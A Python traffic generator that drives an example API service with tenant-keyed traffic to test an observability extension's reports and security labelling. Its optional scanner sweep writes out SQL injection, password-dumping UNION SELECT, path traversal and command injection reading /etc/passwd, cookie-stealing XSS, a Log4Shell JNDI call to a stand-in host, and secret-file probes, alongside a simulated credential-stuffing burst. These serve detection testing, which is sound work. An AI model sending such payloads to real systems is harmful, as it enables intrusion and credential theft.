"""Traffic generator for the example service: a realistic mix (browsing, orders, logins that
succeed and fail, admin probing, rate-limit bursts, slow reports, errors, invalid input) and a
burst of failed logins against one account from one source. Requests carry the API key of one of
a few tenants with different usage profiles (an enterprise tenant hammering the order-detail
endpoint, a mid-size one, a handful of small ones), so the ``otel-ext report`` shows pricing tiers.
With ``--scanner`` a vulnerability scanner also sweeps the service from one address (SQL injection,
path traversal, XSS, Log4Shell, exposed-file probes, an attack-tool user agent): those records
arrive labelled ``security`` with OWASP ``malicious_*`` actions.

    python -m examples.api_service.traffic --url http://127.0.0.1:8000 --requests 400 [--scanner]
"""

from __future__ import annotations

import argparse
import json
import random
from collections import Counter
from dataclasses import dataclass

import urllib3


@dataclass(frozen=True)
class Tenant:
    """One API customer: its key, its share of the traffic mix and how often it calls the
    order-detail endpoint on top of it."""

    name: str
    api_key: str
    weight: float
    detail_rate: float  # chance of an extra GET /api/orders/{id} with each mix request it makes


TENANTS = (
    Tenant("acme", "ak-acme-7f3c", 0.40, 0.8),  # enterprise: heavy order-detail use
    Tenant("globex", "ak-globex-91b2", 0.25, 0.3),
    Tenant("initech", "ak-initech-2d4e", 0.12, 0),
    Tenant("umbrella", "ak-umbrella-c0de", 0.08, 0),
    Tenant("hooli", "ak-hooli-55aa", 0.06, 0),
    Tenant("stark", "ak-stark-0b0e", 0.04, 0),
    Tenant("wayne", "ak-wayne-1a1a", 0.03, 0),
    Tenant("wonka", "ak-wonka-3c3c", 0.02, 0),
)


SCANNER_SOURCE = "203.0.113.200"
SCANNER_PROBES: tuple[tuple[str, str, str], ...] = (
    # (method, path with query, user agent): what a real scanner sweep sends to an API
    ("GET", "/api/orders?id=1%27%20OR%20%271%27%3D%271", "sqlmap/1.8.4#stable (https://sqlmap.org)"),
    ("GET", "/api/orders?id=1%20UNION%20SELECT%20username,password%20FROM%20users--", "Mozilla/5.0"),
    ("GET", "/api/orders?file=../../../../etc/passwd", "Mozilla/5.0"),
    ("GET", "/api/orders?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", "Mozilla/5.0"),
    ("GET", "/api/orders?x=${jndi:ldap://203.0.113.200:1389/a}", "Mozilla/5.0"),
    ("GET", "/.env", "Mozilla/5.0 (compatible; Nikto/2.5.0)"),
    ("GET", "/.git/config", "Mozilla/5.0"),
    ("GET", "/wp-login.php", "Mozilla/5.0"),
    ("GET", "/actuator/env", "Mozilla/5.0"),
    ("GET", "/api/orders?cmd=;cat%20/etc/passwd", "Mozilla/5.0"),
)
"""A scanner's sweep: every request here is an attack or a probe and must be labelled as one."""


def run(url: str, requests: int, seed: int = 1, burst: bool = True, tenants: bool = True,
        scanner: bool = False) -> Counter[int]:
    rnd = random.Random(seed)
    trnd = random.Random(seed + 7919)  # tenants draw from their own stream: the request mix stays the same
    tenant: Tenant | None = None
    http = urllib3.PoolManager(retries=False, timeout=urllib3.Timeout(connect=2, read=10))
    statuses: Counter[int] = Counter()

    def call(method: str, path: str, body: dict[str, object] | None = None, **headers: str) -> None:
        hdrs = {"User-Agent": "shop-traffic/1.0", **{k.replace("_", "-"): v for k, v in headers.items()}}
        if "user-agent" in hdrs:
            hdrs["User-Agent"] = hdrs.pop("user-agent")
        if tenant is not None:
            hdrs.setdefault("x-api-key", tenant.api_key)
        data = json.dumps(body).encode() if body is not None else None
        if data is not None:
            hdrs["Content-Type"] = "application/json"
        resp = http.request(method, url + path, body=data, headers=hdrs)
        statuses[resp.status] += 1

    for i in range(requests):
        client = f"198.51.100.{rnd.randint(1, 40)}"
        p = rnd.random()
        tenant = trnd.choices(TENANTS, weights=[t.weight for t in TENANTS])[0] if tenants else None
        if tenant is not None and trnd.random() < tenant.detail_rate:
            call("GET", f"/api/orders/{trnd.randint(1, 500)}", x_forwarded_for=client)
        if burst and i == requests // 3:  # credential stuffing against one account
            for _ in range(12):  # no API key: an attacker
                call("POST", "/api/login", {"username": "admin", "password": f"guess{rnd.randint(0, 9999)}"},
                     x_forwarded_for="203.0.113.66", x_api_key="")
        if scanner and i == requests // 2:  # a vulnerability scanner sweeps the API from one address
            for method, target, agent in SCANNER_PROBES:
                call(method, target, user_agent=agent, x_forwarded_for=SCANNER_SOURCE, x_api_key="")
        if p < 0.40:
            call("GET", "/api/orders", x_forwarded_for=client)
        elif p < 0.50:
            user = rnd.choice(["alice", "bob"])
            call("POST", "/api/login", {"username": user, "password": {"alice": "wonderland", "bob": "builder"}[user]},
                 x_forwarded_for=client)
        elif p < 0.56:
            call("POST", "/api/login", {"username": rnd.choice(["alice", "carol"]), "password": "nope"},
                 x_forwarded_for=client)
        elif p < 0.62:
            call("GET", "/api/admin/users", x_forwarded_for=client, x_user="bob")
        elif p < 0.72:
            call("POST", "/api/orders", {"item": "book", "quantity": rnd.randint(1, 3)}, x_forwarded_for=client)
        elif p < 0.77:
            call("POST", "/api/orders", {"item": "", "quantity": 0}, x_forwarded_for=client)
        elif p < 0.80:
            call("GET", f"/api/orders/{rnd.randint(1, 999)}/fail", x_forwarded_for=client)
        elif p < 0.81:
            call("GET", "/api/reports/slow", x_forwarded_for=client)
        elif p < 0.85:
            for _ in range(25):  # a client hammering the orders endpoint
                call("GET", "/api/orders", x_forwarded_for="192.0.2.99")
        else:
            call("GET", f"/api/nope/{rnd.randint(1, 50)}", x_forwarded_for=client)
    return statuses


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--url", default="http://127.0.0.1:8000")
    parser.add_argument("--requests", type=int, default=400)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--no-tenants", action="store_true", help="send no API keys")
    parser.add_argument("--scanner", action="store_true", help="add a vulnerability scanner's sweep")
    args = parser.parse_args()
    print(dict(sorted(run(args.url.rstrip("/"), args.requests, args.seed, tenants=not args.no_tenants,
                          scanner=args.scanner).items())))


if __name__ == "__main__":
    main()
